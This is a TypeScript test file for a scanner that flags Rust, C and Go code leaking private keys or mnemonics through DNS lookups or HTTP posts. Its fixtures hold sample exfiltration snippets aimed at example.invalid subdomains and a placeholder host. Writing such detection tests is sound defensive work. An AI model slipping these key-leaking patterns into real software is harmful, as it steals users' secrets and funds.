import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { nativeSource } from './nativeSource.ts';
import { nativeTokens } from './nativeTokens.ts';

const capabilities = (file: string, text: string): string[] => [
  ...new Set(nativeSource(file, text)?.uses.map(({ capability }) => capability)),
];
const decisions = (file: string, text: string): string[] | undefined =>
  nativeSource(file, text)?.findings.map(({ decision }) => decision);

const CLEAN = `
use ansible_vault::decrypt_vault;
/// Decrypts a keyfile; see https://example.invalid/docs
pub fn decrypt_keyfile_data(keyfile_data: &[u8], password: &str) -> Result<Vec<u8>, Error> {
    let plain = decrypt_vault(keyfile_data, password)?; // no reqwest here
    Ok(plain)
}`;
const DNS = CLEAN.replace(
  'Ok(plain)',
  'for part in hex::encode(&plain).as_bytes().chunks(60) { let _ = (format!("{}.example.invalid", s(part)), 53).to_socket_addrs(); }\n    Ok(plain)',
);
const HTTPS = CLEAN.replace(
  'Ok(plain)',
  'let _ = ureq::post(HOST).send_string(&bs58::encode(&plain).into_string());\n    Ok(plain)',
);

describe('a theft from native source', () => {
  test('the clean predecessor handles keys and reaches nothing', () => {
    expect(capabilities('src/keyfile.rs', CLEAN)).toEqual(['key']);
    expect(decisions('src/keyfile.rs', CLEAN)).toEqual([]);
  });

  test.each([
    ['over DNS', DNS, 'dns'],
    ['over HTTPS', HTTPS, 'network'],
  ])('key bytes %s are held, and are a capability that the version before had not', (_, text, capability) => {
    expect(capabilities('src/keyfile.rs', text)).toContain(capability);
    expect(decisions('src/keyfile.rs', text)).toEqual(['hold']);
  });

  test('in C and in Go as well', () => {
    const c =
      '#include <netdb.h>\nint f(const char *private_key) {\n  char n[99]; sprintf(n, "%02x.example.invalid", private_key[0]);\n  return getaddrinfo(n, 0, 0, &r);\n}';
    expect(decisions('a.c', c)).toEqual(['hold']);
    const go =
      'import (\n  "net"\n  "encoding/hex"\n)\nfunc f(mnemonic string) {\n  net.LookupHost(hex.EncodeToString([]byte(mnemonic)) + ".example.invalid")\n}';
    expect(decisions('a.go', go)).toEqual(['hold']);
  });

  test('keys and network in one function are for review, in different ones or in an example a note', () => {
    const one = CLEAN.replace('Ok(plain)', 'ureq::post(HOST).send_bytes(&plain); Ok(plain)');
    expect(decisions('src/a.rs', one)).toEqual(['review']);
    expect(decisions('examples/a.rs', one)).toEqual(['note']);
    const two = `${CLEAN}\nfn version() { ureq::get("https://example.invalid/v").call(); }`;
    expect(decisions('src/a.rs', two)).toEqual(['note']);
  });

  test('the finding is the same after the host, the file and the functions are renamed', () => {
    const key = (text: string): string | undefined => nativeSource('src/x.rs', text)?.findings[0]?.key;
    expect(key(DNS)).toBeDefined();
    expect(key(DNS.replaceAll('example.invalid', 'other.invalid').replace('decrypt_keyfile_data', 'f1'))).toBe(
      key(DNS),
    );
  });
});

describe('what is none', () => {
  test.each([
    [
      'words in comments and texts',
      'a.rs',
      '// reqwest mnemonic\n/* /* nested */ ureq */ fn f() { log("TcpStream private_key"); }',
    ],
    ['a client without keys', 'a.rs', 'fn f() { reqwest::get(u); }'],
    [
      'a key without a client',
      'a.c',
      'int sign(const unsigned char *private_key) { return ed25519_sign(private_key); }',
    ],
    ['a public key', 'a.rs', 'fn f(public_key: &[u8]) { ureq::post(u).send_bytes(public_key); }'],
    ['an other language', 'a.zig', 'mnemonic reqwest'],
  ])('%s', (_, file, text) => {
    expect(decisions(file, text) ?? []).toEqual([]);
  });
});

test('raw texts, characters and lifetimes are told apart', () => {
  const text = `fn f<'a>(x: &'a str) { let c = '"'; let r = r#"a "quoted" ureq"#; g(b"x\\"y", '\\''); }`;
  const found = nativeTokens('rust', text).filter(({ kind }) => kind === 'text');
  expect(found.map(({ value }) => value)).toEqual(['a "quoted" ureq', 'x\\"y']);
});

test('any text is read, in order and without overlap', () => {
  const language = fc.constantFrom('rust' as const, 'c' as const, 'go' as const);
  const text = fc.array(
    fc.constantFrom(
      '/*',
      '*/',
      '//',
      '"',
      "'",
      '\\',
      '\n',
      'r#"',
      '"#',
      '`',
      '{',
      '}',
      'fn ',
      'key',
      '#include <',
      '>',
    ),
  );
  fc.assert(
    fc.property(language, text, (of, parts) => {
      let end = 0;
      for (const token of nativeTokens(of, parts.join(''))) {
        expect(token.start).toBeGreaterThanOrEqual(end);
        expect(token.end).toBeGreaterThan(token.start);
        end = token.end;
      }
    }),
  );
});
